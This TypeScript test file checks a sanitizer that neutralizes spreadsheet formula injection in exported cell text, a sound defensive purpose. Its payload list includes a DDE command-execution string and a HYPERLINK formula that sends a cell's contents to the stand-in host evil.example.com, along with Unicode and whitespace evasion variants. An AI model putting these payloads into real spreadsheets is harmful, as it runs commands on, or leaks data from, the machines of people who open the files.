import assert from 'node:assert/strict'
import { test } from 'node:test'
import { couldRun, harmless } from './harmless.ts'

const PAYLOADS = [
  ...['=1+1', '=', "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example.com?"&A1,"点击")'],
  ...['+1+1', '+cmd|1', '-1+1', '-', '--5', '@SUM(1,2)', '@张伟 请看'],
  ...['＝1+1', '＋1+1', '－1+1', '＠SUM(1)', '﹦1+1'],
  ...[' =1+1', '\u00a0=1+1', '\u3000＝1+1', '\u200b=1+1', '\ufeff=1+1', '\u0000=1+1', '\u001f\u0001 @x'],
  ...['\t=1+1', '\r=1+1', '\n=1+1', '\t正文', '\r\n正文', '\n正文'],
  ...['-1.2.3', '+86 138', '-１', ' -5', '-5\n=1+1', '-5 '],
]

const PLAIN = [
  ...['', '电话沟通', 'a=b', '1+1', ' 正文', "'=1+1", '"=1+1"', '2025-01-15 10:30:00'],
  ...['-116.40', '+8613800000000', '-0', '-1e-7'],
]

test('what a spreadsheet could run gets an apostrophe', () => {
  for (const text of PAYLOADS) assert.equal(harmless(text), `'${text}`, JSON.stringify(text))
})

test('what it cannot run stays as it is', () => {
  for (const text of PLAIN) assert.equal(harmless(text), text, JSON.stringify(text))
})

test('what was made harmless is harmless', () => {
  for (const text of PAYLOADS) assert.equal(couldRun(harmless(text)), false, JSON.stringify(text))
})
